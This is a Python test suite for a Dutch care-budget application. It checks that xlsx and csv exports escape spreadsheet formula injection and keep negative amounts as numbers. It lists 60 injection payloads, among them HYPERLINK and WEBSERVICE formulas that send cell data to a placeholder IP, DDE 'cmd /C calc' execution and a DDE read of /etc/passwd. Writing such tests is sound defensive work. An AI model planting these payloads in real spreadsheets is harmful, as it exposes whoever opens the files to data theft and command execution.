"""T19: no spreadsheet carries out a text of a dossier; negative amounts stay numbers; nothing changes on the way."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from pgbdesk.app.alles import alles
from pgbdesk.app.tabel import Tabel
from pgbdesk.clock import fixed
from pgbdesk.domain.dossier import ENTITIES, Dossier
from pgbdesk.domain.personen import Persoon, Verstrekker, Zorgverlener
from pgbdesk.domain.record import Record
from pgbdesk.domain.rondom import Contactmoment, Document, Taak
from pgbdesk.domain.soorten import ContactMet, VerstrekkerSoort, ZorgverlenerSoort
from pgbdesk.domain.werk import Uren
from pgbdesk.exchange.demo import demo
from pgbdesk.exchange.formules import als_tekst, is_getal, uit_tekst
from pgbdesk.exchange.rekenvellen import Rekenbladen
from pgbdesk.exchange.xlsx_schrijven import naar_xml, uit_xml
from pgbdesk.text import Money
from tests.helpers.rooster_builders import FATIMA, at

MADE = fixed(date(2026, 11, 24))()

_HOE = (  # what a formula can do, each behind every sign that can begin one
    "1+1",
    "SUM(1;2)",
    'HYPERLINK("http://192.0.2.1/?x="&A1;"klik hier")',
    'WEBSERVICE("http://192.0.2.1/"&A1)',
    "cmd|' /C calc'!A0",
    'DDE("soffice";"/etc/passwd";"A1")',
    "IMPORTXML(CONCAT(A1);1)",
)
_TEKENS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝")
PAYLOADS = (
    *(sign + what for sign in _TEKENS for what in _HOE),
    "-2+3+cmd|' /C calc'!A0",
    "'=1+1",
    " =1+1",
    "\ufeff=1+1",
)
assert len(PAYLOADS) == 60


def _uren(text: str) -> Uren:
    begin, einde = at("2026-04-01", "09:00"), at("2026-04-01", "12:00")
    return Uren(zorgovereenkomst_id=FATIMA.id, begin=begin, einde=einde, notitie=text)


def _contact(**more: str) -> Contactmoment:
    return Contactmoment(met=ContactMet.SVB, op=at("2026-04-01"), **more)  # type: ignore[arg-type]


#: Twelve texts that somebody else can have written into a dossier: the field, and a record with it.
VELDEN: dict[str, tuple[str, Callable[[str], Record]]] = {
    "voornaam": ("voornaam", lambda t: Persoon(voornaam=t)),
    "achternaam": ("achternaam", lambda t: Persoon(achternaam=t)),
    "straat": ("straat", lambda t: Persoon(straat=t)),
    "e-mail": ("email", lambda t: Persoon(email=t)),
    "bedrijf": ("bedrijfsnaam", lambda t: Zorgverlener(soort=ZorgverlenerSoort.INSTELLING, bedrijfsnaam=t)),
    "uren": ("notitie", _uren),
    "papier": ("titel", lambda t: Document(titel=t)),
    "taak": ("titel", lambda t: Taak(titel=t)),
    "onderwerp": ("onderwerp", lambda t: _contact(onderwerp=t)),
    "verslag": ("verslag", lambda t: _contact(verslag=t)),
    "verstrekker": ("naam", lambda t: Verstrekker(soort=VerstrekkerSoort.GEMEENTE, naam=t)),
    "adres": ("postadres", lambda t: Verstrekker(soort=VerstrekkerSoort.GEMEENTE, postadres=t)),
}
assert len(VELDEN) == 12


def table(veld: str) -> tuple[Tabel, int, list[str]]:
    """The records with all payloads in one field as they leave the program; the column, and the texts as kept."""
    field, make = VELDEN[veld]
    records = [make(payload) for payload in PAYLOADS]
    [tabel] = alles(Dossier(records))
    return tabel, tabel.koppen.index(field), [getattr(record, field) for record in records]


@pytest.mark.parametrize("veld", VELDEN)
def test_t19_no_payload_in_any_field_is_a_formula_in_a_workbook(veld):
    """In .xlsx each is a cell of text with exactly the text of the dossier."""
    tabel, column, texts = table(veld)
    book = load_workbook(io.BytesIO(Rekenbladen().xlsx([tabel], MADE)))
    found = [row[column] for row in book.active.iter_rows(min_row=2)]
    assert [cell.data_type for cell in found] == ["s"] * 60
    assert all(cell.quotePrefix for cell in found)
    assert [uit_xml(cell.value) for cell in found] == texts
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("veld", VELDEN)
def test_t19_no_payload_in_any_field_begins_a_formula_in_a_csv(veld):
    """In .csv each begins with an apostrophe, and taking that off gives the text of the dossier."""
    tabel, column, texts = table(veld)
    data = Rekenbladen().csv(tabel)
    assert data.startswith(b"\xef\xbb\xbf")
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    cells = [row[column] for row in reader][1:]
    assert {cell[0] for cell in cells} == {"'"}
    assert [uit_tekst(cell) for cell in cells] == texts


def test_negative_amounts_stay_numbers_in_both():
    amounts = [Decimal("-12.50"), Decimal("-0.01"), Decimal("-1234567.89"), Decimal("0"), Decimal("12.5")]
    tabel = Tabel("T", ("a", "b"), tuple((amount, Money(amount)) for amount in amounts))
    book = load_workbook(io.BytesIO(Rekenbladen().xlsx([tabel], MADE)))
    for row, amount in zip(book.active.iter_rows(min_row=2), amounts, strict=True):
        assert [cell.data_type for cell in row] == ["n", "n"]
        assert [Decimal(str(cell.value)) for cell in row] == [amount, amount]
    lines = Rekenbladen().csv(tabel).decode("utf-8-sig").splitlines()[1:]
    assert lines[0] == "-12,50;-12,50"
    assert all("'" not in line for line in lines)


def test_a_number_that_was_typed_as_text_is_text():
    """An IBAN or a number with a plus keeps every digit and sign."""
    tabel = Tabel("T", ("a",), (("-5",), ("+31612345678",), ("0012",)))
    assert Rekenbladen().csv(tabel).decode("utf-8-sig").splitlines()[1:] == ["'-5", "'+31612345678", "0012"]
    book = load_workbook(io.BytesIO(Rekenbladen().xlsx([tabel], MADE)))
    assert [row[0].value for row in book.active.iter_rows(min_row=2)] == ["-5", "+31612345678", "0012"]


@settings(max_examples=400)
@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_every_text_comes_back_as_it_was(text):
    assert uit_tekst(als_tekst(text)) == text
    assert uit_xml(naar_xml(text)) == text


def test_the_guard_can_fail():
    """Without it the payloads are formulas: what the tests above look for is really there."""
    from openpyxl import Workbook

    book = Workbook()
    for payload in ("=1+1", "=cmd|' /C calc'!A0"):
        book.active.append([payload])
    assert [row[0].data_type for row in book.active.iter_rows()] == ["f", "f"]
    assert not is_getal("-2+3")
    assert not is_getal("-1234567890123")
    assert is_getal("-12,50")


@pytest.mark.release
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not on this computer")
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_t19_libreoffice_works_nothing_out(kind, tmp_path):
    """After a recalculation by LibreOffice every cell still holds the text itself, and amounts are amounts."""
    rows = tuple((payload.replace("\r", " ").replace("\t", " "), Decimal("-12.50")) for payload in PAYLOADS)
    tabel, maker = Tabel("T", ("tekst", "bedrag"), rows), Rekenbladen()
    source = tmp_path / f"bron.{kind}"
    source.write_bytes(maker.csv(tabel) if kind == "csv" else maker.xlsx([tabel], MADE))
    recalculated = _soffice(source, tmp_path)
    found = [list(row) for row in load_workbook(recalculated).active.iter_rows(min_row=2)]
    assert len(found) == 60
    assert {cell.data_type for text, _ in found for cell in [text]} == {"s"}
    assert {float(amount.value) for _, amount in found} == {-12.5}
    if kind == "xlsx":
        assert [text.value for text, _ in found] == [row[0] for row in rows]
    else:
        assert all(uit_tekst(text.value).strip() == row[0].strip() for (text, _), row in zip(found, rows, strict=True))


def _soffice(source: Path, folder: Path) -> Path:
    """What LibreOffice makes of a file when it opens, recalculates and saves it."""
    out = folder / "uit"
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profiel"]
    if source.suffix == ".csv":  # semicolons, quotes, UTF-8, Dutch numbers, kinds found by looking at the text
        command += ["--infilter=CSV:59,34,76,1,,1043,false,true,true"]
    command += ["--convert-to", "xlsx", "--outdir", str(out), str(source)]
    subprocess.run(command, check=True, timeout=240, capture_output=True)
    return out / "bron.xlsx"


def test_everything_goes_out_as_a_sheet_for_each_list():
    dossier = demo()
    book = load_workbook(io.BytesIO(Rekenbladen().xlsx(alles(dossier), MADE)))
    assert book.sheetnames == [cls.LIST for cls in ENTITIES if dossier.all(cls)]
    for cls in ENTITIES:
        if dossier.all(cls):
            assert book[cls.LIST].max_row == len(dossier.all(cls)) + 1
    hours, shown = dossier.all(Uren)[0], {c.value: n for n, c in enumerate(book["uren"][1])}
    assert book["uren"][2][shown["begin"]].value == hours.begin.replace(tzinfo=None)
    assert (book.properties.creator, book.properties.lastModifiedBy) == ("pgbdesk", None)
